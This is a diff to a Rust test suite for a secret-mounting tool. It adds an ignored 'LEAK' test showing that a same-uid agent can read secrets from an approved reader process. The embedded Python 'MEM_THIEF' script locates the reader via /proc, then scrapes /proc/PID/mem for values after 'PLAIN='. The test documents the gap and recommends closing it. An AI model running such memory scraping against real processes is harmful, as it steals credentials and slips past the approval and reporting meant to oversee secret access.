@@ -7,7 +7,7 @@
 use std::process::{Command, Stdio};
 use std::time::Duration;
 
-use crate::harness::{Home, text, wait_output};
+use crate::harness::{Home, contains, text, wait_output};
 use crate::mount::{Project, approve_card, finished, mount, store, values, wait_card};
 
 /// The agent's side: a copier that never consumes. It finds the honest reader holding the
@@ -302,4 +302,101 @@ fn a_tee_thief_with_spinners_copies_the_pieces_unreported() {
 #[ignore = "LEAK: as a_tee_thief_copies_the_pieces_unreported; a TTL grant is never ended because nothing is seen, so each read adds pieces"]
 fn a_tee_thief_collects_over_a_standing_grant_unreported() {
     assert_held(&copy_reads("tee+byname+spin+many", 4));
+}
+
+/// The agent's side, after the read: finds the process that held the mount read-only, waits
+/// until it no longer holds it (it has read the text), then reads its memory through
+/// `/proc/READER/mem` (what the same uid may do to a dumpable process it may ptrace: any
+/// without Yama, its own descendants with Yama's default) and prints what follows `PLAIN=`
+/// in it (the test only searches it, never shows it).
+const MEM_THIEF: &str = r#"
+import os, sys, time, re
+path = sys.argv[1]
+st = os.stat(path); dev, ino = st.st_dev, st.st_ino
+me = os.getpid(); pid = None; t0 = time.time()
+while pid is None and time.time() - t0 < 20:
+    for p in os.listdir("/proc"):
+        if not p.isdigit() or int(p) == me:
+            continue
+        try:
+            for f in os.listdir(f"/proc/{p}/fd"):
+                try:
+                    s = os.stat(f"/proc/{p}/fd/{f}")
+                    if s.st_dev == dev and s.st_ino == ino:
+                        pid = int(p)
+                except OSError:
+                    pass
+        except OSError:
+            pass
+    time.sleep(0.01)
+assert pid is not None, "no reader"
+def holds():
+    try:
+        return any(os.stat(f"/proc/{pid}/fd/{f}").st_ino == ino for f in os.listdir(f"/proc/{pid}/fd"))
+    except OSError:
+        return False
+while holds():
+    time.sleep(0.01)
+out = b""
+with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
+    for l in maps:
+        a, perms = l.split()[:2]
+        if "r" not in perms or "w" not in perms:
+            continue
+        lo, hi = (int(x, 16) for x in a.split("-"))
+        try:
+            mem.seek(lo)
+            b = mem.read(hi - lo)
+        except (OSError, ValueError, OverflowError):
+            continue
+        for m in re.finditer(rb"PLAIN=", b):
+            out += b[m.start():m.start() + 400]
+sys.stdout.buffer.write(out)
+"#;
+
+/// A server-like reader: loads `.env` and keeps running with it in memory.
+const SERVER: &str = "import sys, time\nt = open('.env').read()\nsys.stdout.write(str(len(t)))\nsys.stdout.flush()\ntime.sleep(3)\n";
+
+/// Once the approved reader has read the text, the values are in its memory, and the agent
+/// (same uid, typically the reader's ancestor: it started `docker compose up`) reads them
+/// there through `/proc/READER/mem`, without touching the FIFO: no piece, no watch, nothing
+/// to report. A limit of every reader keyveil does not start (as `/proc/PID/environ` is for a
+/// run's child), not of the pipe. LEAK until documented or closed.
+#[test]
+#[ignore = "LEAK: the reader's memory holds every value once read; a same-uid agent that may ptrace it (no Yama, or its own descendant) reads them from /proc/READER/mem. Recommended: state it in docs/mounts.md limits and the threat model; under `keyveil agent`, keep readers out of the agent's ptrace reach"]
+fn the_agent_reads_the_values_from_the_readers_memory() {
+    let h = Home::new();
+    let vals = values();
+    store(&h, &vals);
+    let p = Project::new();
+    mount(&h, &p);
+    let thief = Command::new("python3")
+        .args(["-c", MEM_THIEF, p.env_file().to_str().unwrap()])
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let reader = p.reader(&["python3", "-c", SERVER], &[]);
+    let card = wait_card(&h);
+    approve_card(&h, &card, &[]);
+    let stolen = wait_output(thief, Duration::from_secs(60));
+    let honest = finished(reader);
+    assert!(
+        stolen.status.success(),
+        "thief failed: {}",
+        text(&stolen.stderr)
+    );
+    assert_ne!(text(&honest.stdout), "0", "the reader was served");
+    let leaked = vals
+        .iter()
+        .filter(|(_, v)| {
+            let t = v.rsplit(' ').find(|w| w.len() >= 16).unwrap_or(v);
+            contains(&stolen.stdout, t.trim())
+        })
+        .count();
+    assert_eq!(
+        leaked, 0,
+        "the agent read {leaked} values from the reader's memory"
+    );
 }
